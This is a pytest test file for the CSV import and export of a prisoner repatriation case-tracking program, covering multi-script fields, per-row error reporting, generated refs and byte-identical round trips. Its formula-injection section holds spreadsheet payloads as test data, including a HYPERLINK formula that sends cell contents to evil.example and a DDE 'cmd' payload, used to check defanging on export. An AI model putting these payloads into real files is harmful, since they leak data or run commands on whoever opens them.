"""CSV import and export as a caseworker uses them: every bad value named, nothing half-written,
every script kept, and an export that imports back to exactly the same files."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import pytest

from repatriate.domain.errors import InvalidInput, RepatriateError, quoted
from repatriate.domain.prisoner import (
    Category,
    ConsularAccess,
    DocumentHolder,
    PrisonerFile,
    ReferralSource,
    Sentence,
    Sex,
    Status,
)
from repatriate.services.database import Database

TODAY = date(2026, 11, 22)
BOM = b"\xef\xbb\xbf"

# The published column order (the README and the acceptance checks depend on it), written out
# here rather than imported so that a change to the program's list is noticed.
COLUMNS = [
    "ref",
    "name",
    "name_native",
    "aliases",
    "sex",
    "birth_date",
    "claimed_nationality",
    "court_nationality",
    "verified_nationality",
    "passport_number",
    "passport_book_number",
    "prison",
    "state",
    "prisoner_number",
    "arrest_date",
    "conviction_date",
    "sentence_years",
    "sentence_months",
    "sentence_days",
    "set_off_days",
    "remission_days",
    "fine_default_days",
    "released_on",
    "status",
    "category",
    "home_address",
    "home_address_native",
    "languages",
    "notes",
    "father_name",
    "mother_name",
    "age_estimate",
    "age_estimated_on",
    "ethnicity",
    "verified_on",
    "possible_misidentification",
    "passport_country",
    "passport_held_by",
    "passport_copy_on_file",
    "charge",
    "court",
    "case_number",
    "consular_access_on",
    "consular_access",
    "vulnerability",
    "unhcr_registration",
    "at_risk_if_returned",
    "risk_note",
    "referral_source",
]
# What the CSV carries of a file, as domain attributes (the sentence counts as one).
CSV_ATTRIBUTES = [c for c in COLUMNS if not c.startswith("sentence_") and not c.endswith("_days")]
CSV_ATTRIBUTES.append("sentence")


@pytest.fixture
def db(tmp_path: Path, new_sqlite: Callable[[Path], str]) -> Iterator[Database]:
    database = Database.open(new_sqlite(tmp_path / "x.db"))
    yield database
    database.close()


@pytest.fixture
def fresh_db(tmp_path: Path, new_sqlite: Callable[[Path], str]) -> Iterator[Database]:
    database = Database.open(new_sqlite(tmp_path / "fresh.db"))
    yield database
    database.close()


def csv_text(rows: list[dict[str, str]], columns: list[str] | None = None) -> str:
    """A CSV file as a spreadsheet would save it: a header, then one line per row."""
    columns = columns or COLUMNS
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return out.getvalue()


def write(path: Path, text: str, *, bom: bool = False) -> Path:
    path.write_bytes((BOM if bom else b"") + text.encode("utf-8"))
    return path


def import_text(
    db: Database, tmp_path: Path, text: str, *, dry_run: bool = False, dayfirst: bool = False
):  # type: ignore[no-untyped-def]
    path = write(tmp_path / "in.csv", text)
    return db.transfer.import_csv(path, dry_run=dry_run, dayfirst=dayfirst, today=TODAY)


def import_errors(db: Database, tmp_path: Path, text: str, *, dayfirst: bool = False):  # type: ignore[no-untyped-def]
    with pytest.raises(InvalidInput) as caught:
        import_text(db, tmp_path, text, dayfirst=dayfirst)
    return caught.value.errors


def good(ref: str = "", **cells: str) -> dict[str, str]:
    return {"ref": ref, "name": "Abdul Karim", "birth_date": "1980-05-01"} | cells


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# --- A good row, read back field by field ---------------------------------------------------


def test_a_row_in_several_scripts_reads_back_field_by_field(db: Database, tmp_path: Path) -> None:
    row = {
        "ref": "KOL/2023/114",
        "name": "Salma Bibi",
        "name_native": "সালমা বিবি",
        "aliases": "Selina ; Sálma Begüm;मुन्नी",
        "sex": "f",
        "birth_date": "1986-02-28",
        "claimed_nationality": "Bangladesh",
        "court_nationality": "burma",
        "verified_nationality": "bd",
        "passport_number": "A01234567",
        "passport_book_number": "K1234567",
        "prison": "Dum Dum Central Correctional Home",
        "state": "West Bengal",
        "prisoner_number": "C/2023/114",
        "arrest_date": "2022-08-09",
        "conviction_date": "2023-01-17",
        "sentence_years": "1",
        "sentence_months": "6",
        "sentence_days": "0",
        "set_off_days": "161",
        "remission_days": "20",
        "fine_default_days": "30",
        "released_on": "",
        "status": "SENTENCE_COMPLETED",
        "category": "Asylum_Seeker",
        "home_address": "Village Teknaf, Cox's Bazar",
        "home_address_native": "မောင်တောမြို့နယ်၊ ရခိုင်ပြည်နယ်",
        "languages": "Bengali;urd;my;Rohingya;bn",
        "notes": "پاسپورٹ عدالت میں ہے — Françoise from the NGO visited; 2nd line",
    }
    report = import_text(db, tmp_path, csv_text([row]))

    assert (report.imported, report.generated_refs, report.dry_run) == (1, (), False)
    pf = db.cases.get("KOL/2023/114")
    assert pf.name == "Salma Bibi"
    assert pf.name_native == "সালমা বিবি"
    assert pf.aliases == ("Selina", "Sálma Begüm", "मुन्नी")
    assert pf.sex is Sex.FEMALE
    assert pf.birth_date == date(1986, 2, 28)
    assert (pf.claimed_nationality, pf.court_nationality, pf.verified_nationality) == (
        "BD",
        "MM",
        "BD",
    )
    assert (pf.passport_number, pf.passport_book_number) == ("A01234567", "K1234567")
    assert (pf.prison, pf.state, pf.prisoner_number) == (
        "Dum Dum Central Correctional Home",
        "West Bengal",
        "C/2023/114",
    )
    assert (pf.arrest_date, pf.conviction_date, pf.released_on) == (
        date(2022, 8, 9),
        date(2023, 1, 17),
        None,
    )
    assert pf.sentence == Sentence(
        years=1, months=6, days=0, set_off_days=161, remission_days=20, fine_default_days=30
    )
    assert pf.status is Status.SENTENCE_COMPLETED
    assert pf.category is Category.ASYLUM_SEEKER
    assert pf.home_address == "Village Teknaf, Cox's Bazar"
    assert pf.home_address_native == "မောင်တောမြို့နယ်၊ ရခိုင်ပြည်နယ်"
    # Names and codes alike become ISO 639 codes; the repeated Bengali is kept once.
    assert pf.languages == ("bn", "ur", "my", "rhg")
    assert pf.notes == "پاسپورٹ عدالت میں ہے — Françoise from the NGO visited; 2nd line"
    assert report.files == (pf.replace(id=None, version=0),)


@pytest.mark.parametrize(
    ("written", "code"),
    [("Nepali", "ne"), ("Pashto", "ps"), ("Punjabi", "pa"), ("Malay", "ms"), ("Swahili", "sw")],
)
def test_languages_are_read_by_the_english_names_caseworkers_use(
    db: Database, tmp_path: Path, written: str, code: str
) -> None:
    import_text(db, tmp_path, csv_text([good("L-1", languages=f"{written};bn")]))
    assert db.cases.get("L-1").languages == (code, "bn")


def test_a_file_in_the_first_published_29_columns_still_imports(
    db: Database, tmp_path: Path
) -> None:
    old = COLUMNS[: COLUMNS.index("notes") + 1]
    row = good("OLD-1", claimed_nationality="BD", notes="from the 2025 register")
    report = import_text(db, tmp_path, csv_text([row], old))
    pf = db.cases.get("OLD-1")
    assert (report.imported, pf.notes, pf.father_name, pf.at_risk_if_returned) == (
        1,
        "from the 2025 register",
        "",
        None,
    )


def test_the_appended_columns_read_back_field_by_field(db: Database, tmp_path: Path) -> None:
    row = good(
        "NEW-1",
        father_name="Abdul Rahim",
        mother_name="Amina Khatun",
        age_estimate="35",
        age_estimated_on="2024-06-01",
        ethnicity="Rohingya",
        verified_on="2025-02-03",
        possible_misidentification="yes",
        passport_country="MM",
        passport_held_by="Trial_Court",
        passport_copy_on_file="No",
        charge="Foreigners Act 1946 s.14",
        court="Chief Judicial Magistrate, Bongaon",
        case_number="GR 112/2023",
        consular_access_on="2024-01-09",
        consular_access="phone",
        vulnerability="mental illness",
        unhcr_registration="UNHCR-DEL-123",
        at_risk_if_returned="yes",
        risk_note="fled Rakhine in 2017",
        referral_source="partner ngo",
    )
    import_text(db, tmp_path, csv_text([row]))
    pf = db.cases.get("NEW-1")
    assert (pf.father_name, pf.mother_name, pf.age_estimate, pf.age_estimated_on) == (
        "Abdul Rahim",
        "Amina Khatun",
        35,
        date(2024, 6, 1),
    )
    assert (pf.ethnicity, pf.verified_on, pf.possible_misidentification) == (
        "Rohingya",
        date(2025, 2, 3),
        True,
    )
    assert (pf.passport_country, pf.passport_held_by, pf.passport_copy_on_file) == (
        "MM",
        DocumentHolder.TRIAL_COURT,
        False,
    )
    assert (pf.charge, pf.court, pf.case_number) == (
        "Foreigners Act 1946 s.14",
        "Chief Judicial Magistrate, Bongaon",
        "GR 112/2023",
    )
    assert (pf.consular_access_on, pf.consular_access) == (date(2024, 1, 9), ConsularAccess.PHONE)
    assert (pf.vulnerability, pf.unhcr_registration, pf.at_risk_if_returned, pf.risk_note) == (
        "mental illness",
        "UNHCR-DEL-123",
        True,
        "fled Rakhine in 2017",
    )
    assert pf.referral_source is ReferralSource.PARTNER_NGO


@pytest.mark.parametrize(
    ("status", "category", "expected_status", "expected_category"),
    [
        (
            "SENTENCE_COMPLETED",
            "IMMIGRATION DETAINEE",
            "SENTENCE_COMPLETED",
            "IMMIGRATION_DETAINEE",
        ),
        (
            "Sentence Completed",
            "immigration_detainee",
            "SENTENCE_COMPLETED",
            "IMMIGRATION_DETAINEE",
        ),
        ("under  trial", "Other Offender", "UNDER_TRIAL", "OTHER_OFFENDER"),
        ("REPATRIATED", "asylum_seeker", "REPATRIATED", "ASYLUM_SEEKER"),
        (" released ", "Asylum Seeker", "RELEASED", "ASYLUM_SEEKER"),
    ],
)
def test_status_and_category_words_are_read_in_any_case_with_spaces_or_underscores(
    db: Database,
    tmp_path: Path,
    status: str,
    category: str,
    expected_status: str,
    expected_category: str,
) -> None:
    import_text(db, tmp_path, csv_text([good("A-1", status=status, category=category)]))
    pf = db.cases.get("A-1")
    assert pf.status is Status[expected_status]
    assert pf.category is Category[expected_category]


def test_only_the_columns_given_need_be_present_in_any_order(db: Database, tmp_path: Path) -> None:
    text = csv_text(
        [{"languages": "hi", "name": "Ram Bahadur", "ref": "NP-7", "sex": "M"}],
        columns=["languages", "name", "ref", "sex"],
    )
    import_text(db, tmp_path, text)
    pf = db.cases.get("NP-7")
    assert (pf.name, pf.languages, pf.sex, pf.status) == ("Ram Bahadur", ("hi",), Sex.MALE, None)


@pytest.mark.parametrize("bom", [False, True], ids=["no-bom", "bom"])
def test_utf8_with_or_without_a_byte_order_mark_imports(
    db: Database, tmp_path: Path, bom: bool
) -> None:
    path = write(tmp_path / "in.csv", csv_text([good("BD-1", name_native="আব্দুল করিম")]), bom=bom)
    db.transfer.import_csv(path, today=TODAY)
    pf = db.cases.get("BD-1")
    # With a BOM the first column must still be "ref", not "\ufeffref".
    assert (pf.ref, pf.name_native) == ("BD-1", "আব্দুল করিম")


def test_an_export_for_excel_with_a_bom_imports_back(
    db: Database, fresh_db: Database, tmp_path: Path
) -> None:
    import_text(db, tmp_path, csv_text([good("BD-1", name_native="আব্দুল করিম")]))
    out = tmp_path / "excel.csv"
    db.transfer.export_csv(out, bom=True)
    assert out.read_bytes().startswith(BOM + b"ref,name,")
    fresh_db.transfer.import_csv(out, today=TODAY)
    assert fresh_db.cases.get("BD-1").name_native == "আব্দুল করিম"


# --- Bad values: named by row, column and value; nothing written ------------------------------

EXISTING_REF = "OLD-1"

BAD_ROWS = [
    # id, the bad row's cells, dayfirst, (column, value, reason fragment)
    ("bad date", {"arrest_date": "last May"}, False, ("arrest_date", "last May", "YYYY-MM-DD")),
    ("no such date", {"birth_date": "2023-02-30"}, False, ("birth_date", "2023-02-30", "no such")),
    (
        "no 13th month",
        {"released_on": "2024-13-01"},
        True,
        ("released_on", "2024-13-01", "no such"),
    ),
    (
        "day first without --dayfirst",
        {"conviction_date": "17/01/2023"},
        False,
        ("conviction_date", "17/01/2023", "--dayfirst"),
    ),
    (
        "impossible day-first date",
        {"conviction_date": "31/04/2023"},
        True,
        ("conviction_date", "31/04/2023", "no such"),
    ),
    (
        "unknown nationality",
        {"court_nationality": "Narnia"},
        False,
        ("court_nationality", "Narnia", "country"),
    ),
    ("unknown language", {"languages": "bn;Martian"}, False, ("languages", "Martian", "language")),
    ("bad sex", {"sex": "male?"}, False, ("sex", "male?", "m, f, x")),
    (
        "yes or no",
        {"possible_misidentification": "maybe"},
        False,
        ("possible_misidentification", "maybe", "yes or no"),
    ),
    ("risk yes or no", {"at_risk_if_returned": "1"}, False, ("at_risk_if_returned", "1", "yes")),
    (
        "bad document holder",
        {"passport_held_by": "neighbour"},
        False,
        ("passport_held_by", "neighbour", "trial court"),
    ),
    ("age in words", {"age_estimate": "about 40"}, False, ("age_estimate", "about 40", "number")),
    ("age too great", {"age_estimate": "130"}, False, ("age_estimate", "130", "0 to 120")),
    ("bad status", {"status": "jailed"}, False, ("status", "jailed", "sentence completed")),
    ("bad category", {"category": "thief"}, False, ("category", "thief", "asylum seeker")),
    ("negative number", {"sentence_years": "-1"}, False, ("sentence_years", "-1", "whole number")),
    ("fraction", {"remission_days": "1.5"}, False, ("remission_days", "1.5", "whole number")),
    ("words for a number", {"sentence_months": "six"}, False, ("sentence_months", "six", "number")),
    ("number too big", {"sentence_years": "100"}, False, ("sentence_years", "100", "0 to 99")),
    ("missing name", {"name": "  "}, False, ("name", "", "required")),
    (
        "future birth date",
        {"birth_date": "2026-11-23"},
        False,
        ("birth_date", "2026-11-23", "future"),
    ),
    ("overly long name", {"name": "Ä" * 201}, False, ("name", "Ä" * 201, "longer than 200")),
    ("ref already in the database", {"ref": EXISTING_REF}, False, ("ref", EXISTING_REF, "already")),
]


@pytest.mark.parametrize(
    ("cells", "dayfirst", "expected"),
    [
        pytest.param(cells, dayfirst, expected, id=name)
        for name, cells, dayfirst, expected in BAD_ROWS
    ],
)
def test_a_bad_value_is_reported_by_row_column_and_value_and_nothing_is_written(
    db: Database,
    tmp_path: Path,
    cells: dict[str, str],
    dayfirst: bool,
    expected: tuple[str, str, str],
) -> None:
    import_text(db, tmp_path, csv_text([good(EXISTING_REF)]))
    text = csv_text([good("NEW-1"), good("NEW-2") | cells, good("NEW-3")])

    errors = import_errors(db, tmp_path, text, dayfirst=dayfirst)

    column, value, reason = expected
    assert [(e.row, e.field, e.value) for e in errors] == [(3, column, value)]
    assert reason in errors[0].reason
    assert str(errors[0]).startswith(f"row 3: {column}: {quoted(value)}: ")
    assert db.cases.count() == 1
    with pytest.raises(RepatriateError):
        db.cases.get("NEW-1")


def test_a_day_first_date_is_accepted_with_dayfirst(db: Database, tmp_path: Path) -> None:
    text = csv_text(
        [
            good(
                "A", birth_date="01/02/1980", arrest_date="9-8-2022", conviction_date="2023-01-17"
            ),
        ]
    )
    import_text(db, tmp_path, text, dayfirst=True)
    pf = db.cases.get("A")
    # Day first: 01/02 is the first of February, not the second of January.
    assert (pf.birth_date, pf.arrest_date, pf.conviction_date) == (
        date(1980, 2, 1),
        date(2022, 8, 9),
        date(2023, 1, 17),
    )


def test_an_unknown_column_in_the_header_is_reported_and_nothing_is_written(
    db: Database, tmp_path: Path
) -> None:
    text = csv_text(
        [{"ref": "A", "name": "Abdul", "Nationality": "BD"}], ["ref", "name", "Nationality"]
    )
    errors = import_errors(db, tmp_path, text)
    assert [(e.row, e.field, e.value) for e in errors] == [(1, "header", "Nationality")]
    assert "unknown column" in errors[0].reason
    assert db.cases.count() == 0


def test_a_row_with_the_wrong_number_of_cells_is_reported(db: Database, tmp_path: Path) -> None:
    text = "ref,name,sex\nA,Abdul,M\nB,Karim\nC,Rahim,M,extra\n"
    errors = import_errors(db, tmp_path, text)
    assert [(e.row, e.field, e.value) for e in errors] == [
        (3, "row", "2 cells"),
        (4, "row", "4 cells"),
    ]
    assert all("3 columns" in e.reason for e in errors)
    assert db.cases.count() == 0


def test_a_ref_given_twice_in_the_file_is_reported_at_its_second_row(
    db: Database, tmp_path: Path
) -> None:
    text = csv_text([good("A"), good("B"), good("A", name="Someone Else")])
    errors = import_errors(db, tmp_path, text)
    assert [(e.row, e.field, e.value) for e in errors] == [(4, "ref", "A")]
    assert "row 2" in errors[0].reason
    assert db.cases.count() == 0


def test_every_bad_row_is_reported_not_just_the_first(db: Database, tmp_path: Path) -> None:
    text = csv_text(
        [
            good("A"),
            good("B", birth_date="1980-02-30", sex="Q"),
            good("C"),
            good("D", claimed_nationality="Atlantis"),
            good("E", name=""),
            good("A"),
        ]
    )
    errors = import_errors(db, tmp_path, text)
    assert {(e.row, e.field) for e in errors} == {
        (3, "birth_date"),
        (3, "sex"),
        (5, "claimed_nationality"),
        (6, "name"),
        (7, "ref"),
    }
    assert len(errors) == 5
    assert db.cases.count() == 0


def test_a_ref_already_in_the_database_is_reported_along_with_other_bad_rows(
    db: Database, tmp_path: Path
) -> None:
    import_text(db, tmp_path, csv_text([good(EXISTING_REF)]))
    text = csv_text([good("NEW-1", sex="?"), good(EXISTING_REF), good("NEW-2")])
    errors = import_errors(db, tmp_path, text)
    assert {(e.row, e.field) for e in errors} == {(2, "sex"), (3, "ref")}
    assert db.cases.count() == 1


def test_a_dry_run_checks_every_row_and_writes_nothing(db: Database, tmp_path: Path) -> None:
    report = import_text(db, tmp_path, csv_text([good("A"), good("")]), dry_run=True)
    assert (report.rows, report.imported, report.dry_run) == (2, 0, True)
    assert len(report.generated_refs) == 1
    assert db.cases.count() == 0
    # and a dry run reports bad rows exactly as an import would
    with pytest.raises(InvalidInput):
        import_text(db, tmp_path, csv_text([good("A", sex="?")]), dry_run=True)


def test_a_file_that_is_not_utf8_is_refused_with_a_clear_error(
    db: Database, tmp_path: Path
) -> None:
    path = tmp_path / "excel-ansi.csv"
    path.write_bytes(csv_text([good("A", name="José Müller")]).encode("cp1252"))
    with pytest.raises(RepatriateError) as caught:
        db.transfer.import_csv(path, today=TODAY)
    message = str(caught.value)
    assert "excel-ansi.csv" in message
    assert "UTF-8" in message
    assert "\n" not in message
    assert db.cases.count() == 0


def test_a_missing_file_is_named_in_the_error(db: Database, tmp_path: Path) -> None:
    with pytest.raises(RepatriateError, match=r"nope\.csv: no such file"):
        db.transfer.import_csv(tmp_path / "nope.csv", today=TODAY)


# --- Refs -----------------------------------------------------------------------------------


def test_empty_refs_are_generated_unique_and_unused(db: Database, tmp_path: Path) -> None:
    first = import_text(db, tmp_path, csv_text([good(""), good("X-9"), good("")]))
    second = import_text(db, tmp_path, csv_text([good(""), good("")]))

    refs = first.generated_refs + second.generated_refs
    assert len(refs) == len(set(refs)) == 4
    assert all(ref.strip() and ref != "X-9" for ref in refs)
    assert db.cases.count() == 5
    for ref in refs:
        assert db.cases.get(ref).name == "Abdul Karim"


def test_a_generated_ref_does_not_collide_with_a_ref_given_in_the_same_file(
    db: Database, tmp_path: Path
) -> None:
    # The ref a blank row would be given (the first one this year) is already used by another
    # row of the same file: both rows must still be imported, under different refs.
    taken = db.cases.new_ref(TODAY)
    report = import_text(db, tmp_path, csv_text([good(taken), good("")]))
    assert report.imported == 2
    assert report.generated_refs[0] != taken
    assert db.cases.count() == 2


# --- Export, and export -> import round trips ------------------------------------------------


def test_the_export_header_is_the_published_column_list(db: Database, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert db.transfer.export_csv(out) == 0
    assert out.read_bytes() == (",".join(COLUMNS) + "\r\n").encode()


def csv_fields(pf: PrisonerFile) -> dict[str, object]:
    return {name: getattr(pf, name) for name in CSV_ATTRIBUTES}


def whole(db: Database, ref: str) -> PrisonerFile:
    return db.cases.get(ref).replace(id=None, version=0)


def test_export_import_export_of_300_demo_files_is_byte_identical(
    db: Database, fresh_db: Database, tmp_path: Path, new_sqlite: Callable[[Path], str]
) -> None:
    refs = db.demo.fill(300, seed=7, today=TODAY)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"

    assert db.transfer.export_csv(first) == 300
    report = fresh_db.transfer.import_csv(first, today=TODAY)
    assert (report.imported, report.generated_refs) == (300, ())
    assert fresh_db.transfer.export_csv(second) == 300

    assert second.read_bytes() == first.read_bytes()
    # The demo writes every script the clinic meets; they must survive the trip.
    text = first.read_text(encoding="utf-8")
    assert any("\u0980" <= ch <= "\u09ff" for ch in text)  # Bengali
    assert any("\u1000" <= ch <= "\u109f" for ch in text)  # Burmese
    # What the CSV carries is what was exported...
    for ref in refs:
        assert csv_fields(fresh_db.cases.get(ref)) == csv_fields(db.cases.get(ref)), ref
    # ...and a file that came in from CSV goes out and back in whole.
    third = Database.open(new_sqlite(tmp_path / "third.db"))
    try:
        third.transfer.import_csv(second, today=TODAY)
        for ref in refs:
            assert whole(third, ref) == whole(fresh_db, ref), ref
    finally:
        third.close()


def test_demo_files_are_the_same_for_the_same_seed_and_differ_for_another(
    tmp_path: Path, new_sqlite: Callable[[Path], str]
) -> None:
    exports = []
    for name, seed in (("a", 3), ("b", 3), ("c", 4)):
        database = Database.open(new_sqlite(tmp_path / f"{name}.db"))
        try:
            database.demo.fill(50, seed=seed, today=TODAY)
            database.transfer.export_csv(tmp_path / f"{name}.csv")
        finally:
            database.close()
        exports.append((tmp_path / f"{name}.csv").read_bytes())
    assert exports[0] == exports[1]
    assert exports[0] != exports[2]


# --- Formula injection ------------------------------------------------------------------------

DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "name_native": "@SUM(A1:A9)",
    "prison": "+91 Central Jail",
    "notes": "-x",
    "home_address": "'quoted already",
    "home_address_native": "'=looks defanged but is not",
    "passport_number": "'",
    "state": "@y",
    "prisoner_number": "+1",
}


def test_formula_cells_are_defanged_on_export_and_restored_exactly_on_import(
    db: Database, fresh_db: Database, tmp_path: Path
) -> None:
    db.cases.add(
        PrisonerFile(ref="=cmd|' /C calc'!A0", aliases=("-minus", "@at", "plain"), **DANGEROUS),
        TODAY,
    )
    db.cases.add(PrisonerFile(ref="SAFE-1", name="Plain Name", notes="a = b, + c"), TODAY)
    out, again = tmp_path / "out.csv", tmp_path / "again.csv"
    db.transfer.export_csv(out)

    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in read_csv(out)[1:]}
    assert set(rows) == {"'=cmd|' /C calc'!A0", "SAFE-1"}
    exported = rows["'=cmd|' /C calc'!A0"]
    for column, value in DANGEROUS.items():
        assert exported[column] == "'" + value, column
    assert exported["aliases"] == "'-minus;@at;plain"
    # Nothing else is touched: no apostrophe where no formula could start.
    assert rows["SAFE-1"]["name"] == "Plain Name"
    assert rows["SAFE-1"]["notes"] == "a = b, + c"
    assert rows["SAFE-1"]["sentence_years"] == "0"
    # No cell of the export can be run by a spreadsheet.
    assert not [c for row in rows.values() for c in row.values() if c[:1] in ("=", "+", "-", "@")]

    fresh_db.transfer.import_csv(out, today=TODAY)
    pf = fresh_db.cases.get("=cmd|' /C calc'!A0")
    for column, value in DANGEROUS.items():
        assert getattr(pf, column) == value, column
    assert pf.aliases == ("-minus", "@at", "plain")
    fresh_db.transfer.export_csv(again)
    assert again.read_bytes() == out.read_bytes()


def test_a_hand_written_leading_apostrophe_is_kept(db: Database, tmp_path: Path) -> None:
    # Only an apostrophe in front of a formula character is the export's own defanging.
    import_text(db, tmp_path, csv_text([good("A", name="'=1+1", notes="'tis true", state="''")]))
    pf = db.cases.get("A")
    assert (pf.name, pf.notes, pf.state) == ("=1+1", "'tis true", "'")


def test_text_is_saved_trimmed_and_round_trips_exactly_with_its_line_breaks(
    db: Database, fresh_db: Database, tmp_path: Path
) -> None:
    original = PrisonerFile(
        ref="WS-1",
        name="Md. Rafiq",
        notes="Visited 3 May.\nFamily traced in Khulna.\n",
        home_address="  Village Dighalia,\r\nDistrict Khulna",
        prison="Presidency Correctional Home ",
    )
    saved = db.cases.add(original, TODAY)
    assert (saved.notes, saved.home_address, saved.prison) == (
        "Visited 3 May.\nFamily traced in Khulna.",
        "Village Dighalia,\r\nDistrict Khulna",
        "Presidency Correctional Home",
    )
    out, again = tmp_path / "out.csv", tmp_path / "again.csv"
    db.transfer.export_csv(out)
    fresh_db.transfer.import_csv(out, today=TODAY)
    fresh_db.transfer.export_csv(again)
    pf = fresh_db.cases.get("WS-1")
    assert (pf.notes, pf.home_address, pf.prison) == (
        saved.notes,
        saved.home_address,
        saved.prison,
    )
    assert again.read_bytes() == out.read_bytes()


def test_a_file_that_is_not_a_prisoner_csv_is_refused_in_a_few_lines(
    db: Database, tmp_path: Path
) -> None:
    header = ["name", *(f"col{n}" for n in range(10_000))]
    errors = import_errors(db, tmp_path, ",".join(header) + "\n" + "x," * 10_000 + "x\n")
    assert len(errors) == 1
    line = str(errors[0])
    assert line.startswith("row 1: header: col0,col1,") and "10000 unknown columns" in line
    assert len(line) < 1200
